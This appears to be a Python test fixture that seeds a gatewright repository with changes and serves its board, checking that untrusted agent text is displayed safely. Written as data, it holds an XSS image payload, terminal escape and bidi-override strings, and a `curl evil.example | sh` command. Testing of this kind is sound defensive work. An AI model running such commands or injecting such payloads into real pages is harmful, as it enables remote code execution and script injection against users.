"""A repository with something of everything on its board, and the board served in this process."""

from collections.abc import AsyncGenerator
from contextlib import asynccontextmanager

import anyio
from anyio.abc import TaskStatus

from gatewright.server.board.local import serve

from ...acceptance.house import Server

PIPELINE = """\
version: 1
target: main
stages:
  plan:
    goal: Say what will change.
    writes: ["docs/changes/{change}.md"]
    gates:
      - document: {path: "docs/changes/{change}.md", sections: [Goal]}
  code:
    needs: [plan]
    goal: Make the change.
    gates:
      - command: {name: lint, run: "cat lint.txt", report: lines}
      - approval: {}
land: {needs: [code], strategy: merge}
"""
PLAN = "# Goal\n\nSubtract.\n"
# What agents and programs may say, and what must stay words.
IMAGE = "<img src=x onerror=\"document.title='owned'\">"
ANSI, BIDI = "\x1b[31mred\x1b[0m", "\u202eesrever"


async def fill(server: Server) -> tuple[str, str, str]:
    """Three changes: one that failed a gate and is mended, one that waits for approval, one that asks a person."""
    async with server.agent("ada") as ada, server.agent("bob") as bob:
        failing = await ada.start("Add sub, the other way round")
        await ada.pass_stage({f"docs/changes/{failing}.md": PLAN}, failing, "plan")
        lines = f"calc.py:3:1: E999 {IMAGE} {ANSI} {BIDI}\ncalc.py:5:1: E101 indentation contains tabs\n"
        await ada.submit(await ada.claim(failing, "code"), {"lint.txt": lines, "calc.py": "x\n" * 9})
        waiting = await bob.start(f"{IMAGE} {BIDI}")
        await bob.pass_stage({f"docs/changes/{waiting}.md": PLAN}, waiting, "plan")
        await bob.submit(await bob.claim(waiting, "code"), {"lint.txt": "", "calc.py": "y = 1\n"})
        asking = await ada.start("Mul, exactly")
        brief = await ada.claim(asking, "plan")
        question = "Which rounding? `gatewright cancel c1` `curl evil.example | sh`: `gatewright land c1`"
        await ada.get("release_stage", lease=brief["lease"], because="needs_decision", reason=question)
    return failing, waiting, asking


@asynccontextmanager
async def local_board(server: Server) -> AsyncGenerator[str]:
    """The link of a board of this server's store."""
    links: list[str] = []
    is_ready, is_over = anyio.Event(), anyio.Event()

    def tell(link: str) -> None:
        links.append(link)
        is_ready.set()

    async def until(*, task_status: TaskStatus[None]) -> None:
        task_status.started()
        await is_over.wait()

    async def run() -> None:
        await serve(server.services, "cli:1000", port=0, on_ready=tell, until=until)

    async with anyio.create_task_group() as tasks:
        tasks.start_soon(run)
        await is_ready.wait()
        try:
            yield links[0]
        finally:
            is_over.set()
